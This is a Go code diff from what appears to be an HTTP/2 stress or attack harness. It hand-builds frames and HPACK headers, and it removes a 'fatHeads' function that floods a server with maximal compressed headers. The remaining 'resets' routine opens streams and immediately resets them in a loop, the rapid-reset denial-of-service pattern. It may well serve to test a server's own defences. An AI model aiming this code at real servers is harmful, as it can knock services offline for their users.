@@ -6,8 +6,6 @@ import (
 	"encoding/json"
 	"io"
 	"net"
-	"strings"
-	"time"
 )
 
 // Frames of HTTP/2 (RFC 9113, section 6), and of HPACK (RFC 7541, appendix A) the header
@@ -50,8 +48,8 @@ func (f *framed) frame(kind, flags byte, stream uint32, payload []byte) {
 	f.Write(payload)
 }
 
-// get asks for something by a credential; more is the rest of the head as HPACK has it.
-func (f *framed) get(path, credential string, more []byte) (stream uint32) {
+// get asks for something by a credential.
+func (f *framed) get(path, credential string) (stream uint32) {
 	block := []byte{0x80 | 2, 0x80 | 6, 4} // GET, http, and a path
 	block = append(number(block, 0, 7, len(path)), path...)
 	block = append(number(append(block, 1), 0, 7, len("hub")), "hub"...)
@@ -64,7 +62,7 @@ func (f *framed) get(path, credential string, more []byte) (stream uint32) {
 	}
 	stream = f.stream
 	f.stream += 2
-	f.frame(headersFrame, wholeRequest, stream, append(block, more...))
+	f.frame(headersFrame, wholeRequest, stream, block)
 	return stream
 }
 
@@ -99,7 +97,7 @@ func resets(a *attacker) {
 		for f := a.framed(1 << 20); f != nil && a.ctx.Err() == nil; {
 			var streams []uint32
 			for range together {
-				streams = append(streams, f.get(path, credential, nil))
+				streams = append(streams, f.get(path, credential))
 			}
 			for _, stream := range streams {
 				f.frame(resetFrame, 0, stream, []byte{0, 0, 0, 8})
@@ -111,27 +109,6 @@ func resets(a *attacker) {
 				f.conn.Close()
 				f = a.framed(1 << 20)
 			}
-		}
-	})
-}
-
-// fatHeads asks for as many streams as a connection may have, with the longest heads that
-// there are, and takes nothing of the answers.
-func fatHeads(a *attacker) {
-	const length, packed = 15_000, 15_000 * 5 / 8 // Huffman's code has 5 bits for a 0
-	head := append([]byte{0, 5}, "x-fat"...)
-	head = append(number(head, 0x80, 7, packed), strings.Repeat("\x00", packed)...)
-	credential := token(evil, "user:evil")
-	a.each(150, 1000, 150, func(int) {
-		f := a.framed(0)
-		for i := 0; f != nil && i < 250 && a.ctx.Err() == nil; i++ {
-			f.get("/v1/stream?presence=none", credential, head)
-			if !f.send() {
-				a.count("cut", 1)
-				return
-			}
-			a.count("head", 1)
-			time.Sleep(time.Millisecond)
 		}
 	})
 }
